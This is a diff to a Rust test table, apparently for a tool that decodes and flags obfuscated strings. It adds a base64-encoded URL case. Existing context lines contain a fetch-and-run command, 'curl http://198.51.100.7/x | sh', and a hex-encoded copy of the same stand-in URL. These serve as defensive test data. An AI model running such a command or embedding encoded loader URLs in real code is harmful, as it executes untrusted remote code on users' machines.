@@ -82,6 +82,7 @@ mod tests {
                 "base64@2",
                 "curl http://198.51.100.7/x | sh # and more of it!!\n",
             ),
+            ("Buffer.from('aHR0cDovLzE5OC41MS4xMDAuNy94','base64')", "base64@13", "http://198.51.100.7/x"),
             ("x: Pz8_Pj4-fn5-P2ludC1vYmplY3Q_", "base64@3", "???>>>~~~?int-object?"),
             ("h='687474703a2f2f3139382e35312e3130302e372f78'", "hex@3", "http://198.51.100.7/x"),
         ] {
